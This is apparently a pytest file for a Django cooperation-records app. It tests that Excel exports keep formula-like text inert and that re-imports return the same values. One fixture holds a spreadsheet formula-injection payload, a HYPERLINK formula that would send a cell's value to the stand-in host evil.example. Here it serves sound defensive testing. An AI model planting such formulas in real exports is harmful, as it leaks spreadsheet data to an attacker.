"""Every Excel export writes text that starts like a formula (`=`, `+`, `-`, `@`) as text, and
the import reads the exported file back to the same characters (issue 11, item 10)."""

from __future__ import annotations

import datetime
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.conftest import SUZHOU, TONGREN, YANHE
from tests.factories import UserFactory
from xiezuo.cooperation import services as cooperation
from xiezuo.cooperation.models import Fund
from xiezuo.imports import services as imports
from xiezuo.imports.models import ImportBatch
from xiezuo.pairing import importing as pairing_importing
from xiezuo.pairing import services as pairing
from xiezuo.pairing.models import Pairing, Target
from xiezuo.regions.models import Region

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
RISKY = (LINK, "+1", "-x", "@a")


def cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_text(content: bytes, values: tuple[str, ...]) -> None:
    """Each risky value is in the export as a string cell, and no cell is a formula."""
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    for value in values:
        matching = [c for c in found if c.value == value]
        assert matching, value
        assert all(c.data_type == "s" for c in matching), value


def run(kind: str, content: bytes, user: Any, tmp_path: Path) -> ImportBatch:
    path = tmp_path / "exported.xlsx"
    path.write_bytes(content)
    batch = imports.batch_create(kind=kind, filename=path.name, source=path, actor=user)
    batch = imports.batch_parse(batch, user=user)
    assert batch.rows_with_errors == 0, [(i.row, i.column, i.message) for i in batch.issues.all()]
    return batch


@pytest.fixture
def suzhou(regions: None) -> Any:
    return UserFactory(
        username="sz", side="east", region_id=SUZHOU, roles=["viewer", "reporter", "reviewer"]
    )


@pytest.fixture
def suzhou_tongren(regions: None) -> Pairing:
    pairing.pairs_2016_load(actor=None)
    return Pairing.objects.get(east_region=SUZHOU, west_region=TONGREN)


def test_cooperation_records_export_as_text_and_import_back_unchanged(
    suzhou: Any, suzhou_tongren: Pairing, tmp_path: Path
) -> None:
    reporter = Region.objects.get(code=SUZHOU)
    for source, purpose in ((LINK, "+1"), ("-x", "@a")):
        cooperation.record_create(
            actor=suzhou,
            kind="fund",
            pairing=suzhou_tongren,
            reporter=reporter,
            year=2026,
            raw={
                "date": "2026-04-01",
                "kind": "财政援助资金",
                "source": source,
                "recipient": YANHE,
                "amount": "1200",
                "purpose": purpose,
            },
        )
    before = sorted(Fund.objects.values_list("pk", "source", "purpose", "amount"))
    client = Client()
    client.force_login(suzhou)
    exported = client.get("/cooperation/fund/export.xlsx")
    assert exported.status_code == 200
    assert_text(exported.content, RISKY)
    # Real numbers stay numbers: the amount is numeric, not text.
    amounts = [c for c in cells(exported.content) if c.value == 1200]
    assert amounts and all(c.data_type == "n" for c in amounts)

    batch = run("coop_fund", exported.content, suzhou, tmp_path)
    imports.batch_commit(batch, actor=suzhou)
    assert sorted(Fund.objects.values_list("pk", "source", "purpose", "amount")) == before


def test_pairings_and_targets_export_as_text_and_import_back_unchanged(
    suzhou: Any, suzhou_tongren: Pairing, tmp_path: Path
) -> None:
    agreement = pairing.agreement_create(actor=suzhou, pairing=suzhou_tongren, year=2026)
    pairing.target_set(
        actor=suzhou,
        agreement=agreement,
        indicator="projects",
        value="12",
        deadline=datetime.date(2026, 12, 31),
        responsible_unit=LINK,
        responsible_person="-x",
    )
    client = Client()
    client.force_login(suzhou)
    exported = client.get("/pairings/targets.xlsx?year=2026")
    assert exported.status_code == 200
    assert_text(exported.content, (LINK, "-x"))
    batch = run(pairing_importing.AGREEMENTS, exported.content, suzhou, tmp_path)
    imports.batch_commit(batch, actor=suzhou)
    target = Target.objects.get()
    assert (target.responsible_unit, target.responsible_person) == (LINK, "-x")

    Pairing.objects.filter(pk=suzhou_tongren.pk).update(outside_parent_reason="@a")
    exported = client.get("/pairings/export.xlsx")
    assert exported.status_code == 200
    assert_text(exported.content, ("@a",))


def test_streamed_workbooks_keep_risky_text_as_text() -> None:
    """The household export streams (write-only mode); the same cells stay text there."""
    from openpyxl import Workbook

    from xiezuo.core import xlsx

    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    xlsx.append(sheet, [*RISKY, 1200, -5, "plain"])
    content = xlsx.to_bytes(book)
    assert_text(content, RISKY)
    numbers = [c for c in cells(content) if c.value in (1200, -5)]
    assert len(numbers) == 2 and all(c.data_type == "n" for c in numbers)
